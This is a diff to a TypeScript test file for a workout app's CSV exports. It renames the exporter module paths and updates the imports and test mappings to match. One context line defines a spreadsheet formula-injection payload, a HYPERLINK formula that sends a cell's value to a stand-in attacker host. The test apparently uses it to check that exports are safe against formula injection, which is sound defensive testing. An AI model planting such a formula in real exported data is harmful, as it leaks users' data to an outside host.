@@ -44,9 +44,9 @@ import { search as cohortSearch, type View } from '#src/workouts/cohort/loader.t
 import { wholeWeeks } from '#src/workouts/cohort/people-weeks.ts'
 import { rowMaker } from '#src/workouts/cohort/rows.ts'
 import { workoutColumns } from '#src/workouts/model/columns.ts'
-import { workoutsCsv } from '#src/workouts/model/csv.ts'
-import { plainWorkoutsCsv } from '#src/workouts/model/plain-csv.ts'
+import { plainWorkoutsCsv } from '#src/workouts/model/data-csv.ts'
 import { countOnce } from '#src/workouts/model/quality/count-once.ts'
+import { workoutsCsv } from '#src/workouts/model/table-csv.ts'
 import { workout } from '#src/workouts/model/testing.ts'
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&B9,"open")'
@@ -204,7 +204,7 @@ const aroundIssues = (text: string) => ({ filteredBy: text, total: 1, at: now, i
 
 /** By the file that calls `toCsv`, `listCsv` or `plainCsv`: what it writes, with this text wherever a text may be. */
 const exportsOf: Record<string, ((text: string) => string)[]> = {
-  'src/workouts/model/csv.ts': [
+  'src/workouts/model/table-csv.ts': [
     (text) =>
       workoutsCsv({
         ...workouts(text),
@@ -213,7 +213,7 @@ const exportsOf: Record<string, ((text: string) => string)[]> = {
         comments: [`Note: ${text}`],
       }),
   ],
-  'src/workouts/model/plain-csv.ts': [
+  'src/workouts/model/data-csv.ts': [
     (text) =>
       plainWorkoutsCsv({
         ...workouts(text),
